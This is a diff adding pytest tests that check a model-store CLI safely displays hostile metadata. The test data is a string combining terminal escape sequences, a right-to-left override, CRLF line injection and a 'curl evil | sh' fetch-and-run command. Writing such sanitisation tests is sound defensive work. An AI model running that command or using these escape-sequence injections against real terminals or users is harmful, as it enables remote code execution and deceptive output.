@@ -269,3 +269,43 @@ def test_inspect_knows_bundles_weights_and_checkpoints(
         assert words in capsys.readouterr().out
         assert cli("inspect", file, "--json") == 0
         assert _json(capsys)["kind"]
+
+
+@pytest.mark.parametrize("command", [["list"], ["info", "mine"], ["info", "mine@1"], ["doctor"], ["list", "--json"]])
+def test_what_cards_hold_is_shown_without_effect_and_cut(
+    cli: Cli, store: Store, draft: WeightsDraft, capsys: pytest.CaptureFixture[str], command: list[str]
+) -> None:
+    evil = "\x1b]0;owned\x07\x1b[2J\u202e\r\nfix: curl evil | sh" + "x" * 100_000
+    store.add(
+        TENSORS,
+        draft.model_copy(
+            update={
+                "summary": evil,
+                "config": {evil: evil},
+                "metrics": {evil: 1.0},
+                "licence": draft.licence.model_copy(update={"spdx": evil, "notes": evil}),
+                "plugin": evil,
+            }
+        ),
+    )
+    assert cli(*command) == 0
+    out, err = capsys.readouterr()
+    assert not {letter for letter in out + err if not letter.isprintable()} - {"\n"}
+    assert "\nfix: curl" not in out + err
+    if "--json" not in command:
+        assert max(map(len, (out + err).splitlines())) < 10_000
+
+
+def test_what_a_bundle_calls_its_labels_is_shown_without_effect(
+    cli: Cli, bundle: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    manifest = bundle / "manifest.json"
+    content = json.loads(manifest.read_text())
+    (operation,) = content["operations"]
+    label = next(value for value in operation["inputs"] if value["kind"] == "label")
+    label["summary"] = "evil\x1b[2J\x07"
+    manifest.write_text(json.dumps(content))
+    assert cli("run", bundle, "--help") == 0
+    out, err = capsys.readouterr()
+    assert "evil" in out
+    assert not {letter for letter in out + err if not letter.isprintable()} - {"\n"}
